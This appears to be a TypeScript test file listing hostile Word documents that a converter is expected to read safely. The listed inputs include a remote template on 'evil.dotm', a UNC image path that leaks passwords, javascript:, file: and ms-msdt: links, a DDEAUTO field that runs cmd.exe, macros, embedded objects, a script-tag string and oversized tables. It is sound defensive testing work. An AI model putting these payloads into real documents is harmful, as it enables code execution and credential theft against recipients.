import { docx, type DocxParts, type Relation } from '#tests/support/docx-package';
import { code, del, el, field, fieldChar, ins, p, r, run, tbl, val } from '#tests/support/word-xml';
import type { HostileCase } from './hostile-case.ts';

const external = (type: string, target: string): Relation => ({ id: 'rId9', type, target, external: true });

function linkTo(target: string): DocxParts {
  return {
    relations: [external('hyperlink', target)],
    body: p(el('w:hyperlink', { 'r:id': 'rId9' }, r('the plan'))),
  };
}

const LINK_LEFT_OUT = [
  'omitted-unsafe-link: 1 link that is neither a web nor a mail address was not carried over.',
];

export const WORD_CASES: readonly HostileCase[] = [
  {
    id: 'd01',
    threat: 'template on a server',
    make: () =>
      docx({
        relations: [external('attachedTemplate', 'http://127.0.0.1/evil.dotm')],
        body: p('Plan'),
        settings: '<w:attachedTemplate r:id="rId9"/>',
      }),
    expected: 'read',
    text: 'Plan',
  },
  {
    id: 'd02',
    threat: 'picture on a share, which would send a password',
    make: () =>
      docx({
        relations: [external('image', '\\\\198.51.100.1\\share\\a.png')],
        body: p(
          r('Plan') +
            run(
              '<w:drawing><wp:inline><wp:docPr descr="Crest"/><a:blip r:link="rId9"/></wp:inline></w:drawing>',
            ),
        ),
      }),
    expected: 'read',
    text: 'Plan',
    says: [
      'pictures: 1 picture is named but not carried over.',
      'omitted-linked-picture: 1 picture kept outside the file was not carried over.',
    ],
  },
  {
    id: 'd03',
    threat: 'link that runs a script',
    make: () => docx(linkTo('javascript:alert(1)')),
    expected: 'read',
    text: 'the plan',
    says: LINK_LEFT_OUT,
  },
  {
    id: 'd04',
    threat: 'link to a file',
    make: () => docx(linkTo('file:///C:/Windows/System32/calc.exe')),
    expected: 'read',
    text: 'the plan',
    says: LINK_LEFT_OUT,
  },
  {
    id: 'd04b',
    threat: 'link that starts another program',
    make: () => docx(linkTo('ms-msdt:/id PCWDiagnostic')),
    expected: 'read',
    text: 'the plan',
    says: LINK_LEFT_OUT,
  },
  {
    id: 'd05',
    threat: 'field that starts a program',
    make: () =>
      docx({ body: p(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', r('See note'))) }),
    expected: 'read',
    text: 'See note',
    says: ['omitted-form-code: 1 field code was not carried over.'],
  },
  {
    id: 'd06',
    threat: 'field that takes in a file',
    make: () =>
      docx({ body: p(field('INCLUDETEXT "\\\\\\\\server\\\\share\\\\secret.docx"', r('Old text'))) }),
    expected: 'read',
    text: 'Old text',
    says: ['omitted-form-code: 1 field code was not carried over.'],
  },
  {
    id: 'd07',
    threat: 'macros in a .docx',
    make: () =>
      docx({
        body: p('Plan'),
        more: {
          '[Content_Types].xml':
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
          'word/vbaProject.bin': 'Sub AutoOpen()',
        },
      }),
    expected: 'read',
    text: 'Plan',
    says: ['omitted-macro: 1 macro project was not carried over.'],
  },
  {
    id: 'd08',
    threat: 'a .docm',
    make: () => docx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml', body: p('Plan') }),
    expected: 'read',
    text: 'Plan',
    says: ['omitted-macro: 1 macro project was not carried over.'],
  },
  {
    id: 'd09',
    threat: 'another document inserted whole',
    make: () =>
      docx({
        relations: [{ id: 'rId9', type: 'aFChunk', target: 'chunk.htm' }],
        body: `${p('Plan')}<w:altChunk r:id="rId9"/>`,
        more: { 'word/chunk.htm': '<p>Hidden</p>' },
      }),
    expected: 'read',
    text: 'Plan',
    says: ['omitted-embedded-document: 1 inserted document was not carried over.'],
  },
  {
    id: 'd10',
    threat: 'embedded program',
    make: () =>
      docx({ body: p(r('Plan') + run('<w:object><o:OLEObject ProgID="Package" r:id="rId9"/></w:object>')) }),
    expected: 'read',
    text: 'Plan',
    says: ['omitted-embedded-object: 1 embedded object was not carried over.'],
  },
  {
    id: 'd11',
    threat: 'tracked changes',
    make: () => docx({ body: p(r('Due ') + del(r('March')) + ins(r('April'))) }),
    expected: 'read',
    text: 'Due MarchApril',
    says: [
      'tracked-deletion: Ann Okafor deleted “March” on 2023-01-05 (tracked change).',
      'tracked-insertion: Ann Okafor inserted “April” on 2023-01-05 (tracked change).',
    ],
  },
  {
    id: 'd12',
    threat: 'hidden text',
    make: () => docx({ body: p(r('Seen') + r(' unseen', '<w:vanish/>')) }),
    expected: 'read',
    text: 'Seen',
    says: ['hidden-text: 1 paragraph has hidden text, which is left out.'],
  },
  {
    id: 'd13',
    threat: 'table of 100,000 rows',
    make: () => docx({ body: tbl(Array.from({ length: 100_000 }, (_, row) => [String(row * 7919)])) }),
    expected: 'TABLE_TOO_LONG',
  },
  {
    id: 'd14',
    threat: 'row of 10,000 cells',
    make: () => docx({ body: tbl([Array.from({ length: 10_000 }, (_, cell) => String(cell * 7919))]) }),
    expected: 'TABLE_TOO_WIDE',
  },
  {
    id: 'd15',
    threat: 'cell over 2,147,483,647 columns',
    make: () =>
      docx({ body: tbl([[`<w:tc><w:tcPr>${val('w:gridSpan', 2147483647)}</w:tcPr>${p('x')}</w:tc>`]]) }),
    expected: 'read',
    text: 'x',
  },
  {
    id: 'd15b',
    threat: 'grid of 100,000 columns',
    make: () =>
      docx({
        body: tbl(
          [['x']],
          '',
          Array.from({ length: 100_000 }, (_, column) => el('w:gridCol', { 'w:w': column })).join(''),
        ),
      }),
    expected: 'TABLE_TOO_WIDE',
  },
  {
    id: 'd16',
    threat: 'one text said in two ways',
    make: () =>
      docx({
        body: p(
          run(
            '<mc:AlternateContent><mc:Choice Requires="wps"><w:t>once</w:t></mc:Choice><mc:Fallback><w:t>once</w:t></mc:Fallback></mc:AlternateContent>',
          ),
        ),
      }),
    expected: 'read',
    text: 'once',
  },
  {
    id: 'd17',
    threat: 'letters that turn the direction of the text',
    make: () => docx({ body: p('rating \u202eder\u202c') }),
    expected: 'read',
    text: 'rating \u202eder\u202c',
  },
  {
    id: 'd18',
    threat: 'markup in the text',
    make: () => docx({ body: p(r('<script>alert(1)</script>&lt;b>')) }),
    expected: 'read',
    text: '<script>alert(1)</script>&lt;b>',
  },
  {
    id: 'd19',
    threat: 'special spaces',
    make: () => docx({ body: p('5\u00a0clear\u202fdays co\u00adoperate\u200b') }),
    expected: 'read',
    text: '5\u00a0clear\u202fdays co\u00adoperate\u200b',
  },
  {
    id: 'd20',
    threat: 'field without an end',
    make: () => docx({ body: p(fieldChar('begin') + code('PAGE')) + p('Plan') }),
    expected: 'read',
    text: '\nPlan',
    says: ['field-without-end: A field has no end; what follows it is read as text.'],
  },
  {
    id: 'd21',
    threat: 'styles and lists that go round in circles',
    make: () =>
      docx({
        styles: circle(),
        numbering: listCircle(),
        body: p('Plan', val('w:pStyle', 'A') + el('w:numPr', {}, val('w:numId', 1))),
      }),
    expected: 'read',
    text: 'Plan',
  },
];

function circle(): string {
  return ['A', 'B']
    .map((id) =>
      el(
        'w:style',
        { 'w:type': 'paragraph', 'w:styleId': id },
        val('w:name', id) + val('w:basedOn', id === 'A' ? 'B' : 'A'),
      ),
    )
    .join('');
}

function listCircle(): string {
  return (
    el('w:abstractNum', { 'w:abstractNumId': 0 }, val('w:numStyleLink', 'L') + val('w:styleLink', 'L')) +
    el('w:num', { 'w:numId': 1 }, val('w:abstractNumId', 0))
  );
}
